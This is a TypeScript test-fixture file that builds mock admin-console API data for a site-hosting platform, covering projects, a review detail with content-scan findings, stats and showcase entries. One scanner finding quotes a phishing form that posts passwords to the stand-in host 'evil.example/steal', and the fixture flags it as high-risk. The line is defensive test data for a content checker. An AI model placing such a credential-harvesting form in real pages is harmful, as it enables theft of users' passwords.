/** Builders for the admin console's API answers (projects, review detail, stats, showcase). */
import type {
  AdminProjectDetailData,
  AdminProjectDto,
  AdminStatsDto,
  Pagination,
  PublicProjectDto,
  WeekTrendDto,
} from '@sitehall/contracts';
import { adminAbilities } from './project-fixtures';

export function pagination(total: number, page = 1, pageSize = 10): Pagination {
  return {
    current_page: page,
    total_pages: Math.max(1, Math.ceil(total / pageSize)),
    total_count: total,
    page_size: pageSize,
  };
}

export function makeProject(overrides: Partial<AdminProjectDto> = {}): AdminProjectDto {
  const id = overrides.id ?? 7;
  const name = overrides.name ?? '个人主页';
  return {
    id,
    project_id: id,
    project_name: name,
    name,
    description: '一个简单的个人网站',
    thumbnail_url: null,
    site_name: null,
    routing: { spa_fallback: false, clean_urls: false, rules: null },
    status: 'pending',
    is_live: false,
    is_public: true,
    featured: false,
    file_size: 20480,
    file_count: 3,
    upload_type: 'zip',
    upload_source: 'zip',
    entry_file: 'index.html',
    created_at: '2024-05-01T08:00:00.000Z',
    createdAt: '2024-05-01T08:00:00.000Z',
    uploaded_at: '2024-05-01T08:00:00.000Z',
    updated_at: '2024-05-01T08:00:00.000Z',
    approved_at: null,
    approved_by: null,
    published_at: null,
    rejectionReason: null,
    viewCount: 0,
    access_count: 0,
    download_count: 0,
    access_url: null,
    owner: { id: 2, username: 'alice' },
    live_version: null,
    latest_version: 1,
    content_check: {
      level: 'clean',
      counts: { high: 0, medium: 0, low: 0, info: 0 },
      usability_problems: 0,
      reason: '自动检查未发现已知风险。',
    },
    pending_since: '2024-05-01T08:00:00.000Z',
    takedownReason: null,
    ...overrides,
    abilities:
      overrides.abilities ??
      adminAbilities({
        status: overrides.status ?? 'pending',
        is_live: overrides.is_live ?? false,
        featured: overrides.featured ?? false,
      }),
  };
}

export function makeDetail(overrides: Partial<AdminProjectDetailData> = {}): AdminProjectDetailData {
  const { content_check: _summary, pending_since: _since, file_names: _names, ...project } = makeProject();
  return {
    project: {
      ...project,
      files: [
        {
          file_name: 'index.html',
          file_type: 'html',
          file_size: 2048,
          mime_type: 'text/html',
          download_only: false,
        },
        {
          file_name: 'css/app.css',
          file_type: 'css',
          file_size: 1024,
          mime_type: 'text/css',
          download_only: false,
        },
      ],
      deployments: [],
      review_comments: [],
    },
    content_check: {
      version: 2,
      level: 'high',
      counts: { high: 1, medium: 0, low: 0, info: 0 },
      usability_problems: 0,
      reason: '判为高风险，几乎可以肯定有恶意：表单收集密码并提交到外部域名 evil.example：疑似钓鱼。',
      checked_at: '2024-05-01T08:00:01.000Z',
      findings: [
        {
          severity: 'high',
          category: 'risk',
          kind: 'password_form',
          rule: 'form.password-external',
          message: '表单收集密码并提交到外部域名 evil.example：疑似钓鱼',
          file: 'index.html',
          line: 12,
          excerpt: '<form method="post" action="https://evil.example/steal">',
        },
        {
          severity: 'info',
          category: 'usability',
          kind: 'large_file',
          message: '文件较大（6 MB），可能影响加载速度',
          file: 'big.png',
          line: null,
        },
      ],
      usability_count: 1,
      omitted_findings: 0,
      external_domains: {
        scripts: ['cdn.example.com'],
        stylesheets: [],
        frames: [],
        forms: ['evil.example'],
        redirects: [],
        script_hosts: [],
      },
      largest_files: [{ file: 'big.png', size: 6 * 1024 * 1024 }],
      scanned_files: 2,
      partially_scanned_files: [],
    },
    content_check_version: 1,
    diff: null,
    stats: {
      view_count: 42,
      download_count: 3,
      views_by_day: Array.from({ length: 30 }, (_, i) => ({
        day: `2024-05-${String(i + 1).padStart(2, '0')}`,
        views: i % 5,
      })),
      views_last_7_days: 12,
    },
    renders: [
      {
        version: 1,
        newest: true,
        live: false,
        state: 'done',
        attempts: 1,
        error: null,
        updated_at: '2024-05-01T08:00:05.000Z',
      },
    ],
    ...overrides,
  };
}

export function trend(this_week: number, last_week: number, trend_percent: number | null): WeekTrendDto {
  return { this_week, last_week, trend_percent };
}

export function makeStats(
  overrides: Partial<AdminStatsDto['weekly']> = {},
  siteIsolation: AdminStatsDto['site_isolation'] = { mode: 'subdomains', sites_port: null },
): AdminStatsDto {
  return {
    projects: { total: 12, pending: 3, approved: 5, published: 2, rejected: 2, taken_down: 0, live: 7 },
    users: { total: 9, admins: 1, disabled: 0 },
    views: { total: 345 },
    downloads: { total: 6 },
    weekly: {
      projects: trend(3, 2, 50),
      uploads: trend(4, 0, null),
      approvals: trend(1, 4, -75),
      rejections: trend(0, 0, 0),
      views: trend(40, 32, 25),
      users: trend(1, 0, null),
      ...overrides,
    },
    site_isolation: siteIsolation,
    generated_at: '2024-05-08T08:00:00.000Z',
  };
}

export function makePublicProject(overrides: Partial<PublicProjectDto> = {}): PublicProjectDto {
  const id = overrides.id ?? 1;
  const name = overrides.name ?? '天气小站';
  return {
    id,
    project_id: id,
    project_name: name,
    name,
    thumbnail_url: null,
    site_name: null,
    description: '查看各地天气',
    published_at: '2024-05-02T08:00:00.000Z',
    file_count: 4,
    file_size: 10240,
    featured: false,
    viewCount: 17,
    access_url: `/sites/${id}/`,
    owner: { username: 'alice' },
    ...overrides,
  };
}
